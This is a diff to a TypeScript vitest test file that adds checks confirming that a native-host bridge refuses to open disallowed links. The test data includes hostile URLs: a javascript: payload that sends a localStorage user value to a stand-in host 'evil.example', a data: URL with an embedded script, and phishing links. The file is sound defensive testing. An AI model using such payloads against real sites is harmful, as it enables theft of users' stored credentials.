@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { JsonStorage, memoryStorage } from '../services/storage';
 import { fakeBridge } from '../test/fakes';
 import { withH5Suffix } from './baseInfo';
-import { createNativeHost } from './index';
+import { createNativeHost, linkPolicy } from './index';
 
 function fakeWindow(nativeBridge?: unknown) {
   const opened: string[] = [];
@@ -140,5 +140,38 @@ describe('web fallback', () => {
     expect((await host.kickOut(true)).resultCode).toBe(1);
     expect((await host.showLogin()).resultCode).toBe(1);
     expect((await host.call('pickAccount')).resultCode).toBe(1);
+  });
+});
+
+describe('links from data are opened only when the allow-list says so (src/shared/links.ts)', () => {
+  const attacks = [
+    'javascript:fetch("//evil.example/?t="+localStorage.getItem("dl.user"))',
+    'data:text/html,<script>alert(1)</script>',
+    '//evil.example/phish',
+    'http://evil.example/', // http is allowed outside production only
+  ];
+
+  it.each(attacks)('the web fallback never window.opens %s', async (url) => {
+    const { win, opened } = fakeWindow();
+    const host = createNativeHost(win, new JsonStorage(memoryStorage()));
+    linkPolicy.allowHttp = false;
+    try {
+      expect((await host.openBrowser(url)).resultCode).toBe(3);
+      expect(opened).toEqual([]);
+    } finally {
+      linkPolicy.allowHttp = true;
+    }
+  });
+
+  it.each(attacks)('the native adapter never hands %s to the host', async (url) => {
+    const bridge = fakeBridge({ getBaseInfo: { resultCode: 0, data: hostInfo } });
+    const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
+    linkPolicy.allowHttp = false;
+    try {
+      expect((await host.openBrowser(url)).resultCode).toBe(3);
+      expect(bridge.calls.map((c) => c.method)).not.toContain('openBrowser');
+    } finally {
+      linkPolicy.allowHttp = true;
+    }
   });
 });
